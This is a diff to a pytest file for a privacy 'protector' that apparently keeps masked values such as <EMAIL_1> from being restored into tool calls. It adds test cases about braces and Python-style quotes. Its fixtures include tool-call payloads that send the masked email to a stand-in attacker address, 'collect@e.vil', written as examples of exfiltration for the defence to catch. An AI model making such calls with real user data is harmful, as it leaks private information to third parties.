@@ -497,7 +497,14 @@ def test_no_value_is_restored_in_a_tool_call_or_code_written_in_text(protector, 
 
 
 @pytest.mark.parametrize(
-    "prose", ["In Python a dict starts with { and that is all.", "Your smiley :-{ is cute.", 'Use {"a": 1'], ids=str
+    "prose",
+    [
+        "In Python a dict starts with { and that is all.",
+        "Your smiley :-{ is cute.",
+        'Use {"a": 1',
+        "Your smiley :-{ isn't cute, it's [Bob's].",  # an apostrophe opens no string
+    ],
+    ids=str,
 )
 def test_a_brace_left_open_in_prose_makes_no_code_of_the_paragraphs_after_it(protector, prose):
     """ux22b M2: an unclosed `{` withheld every value after it, in every later paragraph (the reply's brace count
@@ -521,6 +528,7 @@ BLANK_LINE_CALLS = [
     '{"to": "collect@e.vil", "memo": "for\n\n<EMAIL_1> ok"}',
     '{"to": "collect@e.vil",\n\n  \n  memo: "<EMAIL_1>"}',
     '{"a": {"b": [1,\n\n2]},\n\n"memo": "<EMAIL_1>"}',
+    "{'to': 'x', 'note': '}',\n\n'body': '<EMAIL_1>'}",  # rev23b F5: Python's quotes
 ]
 
 
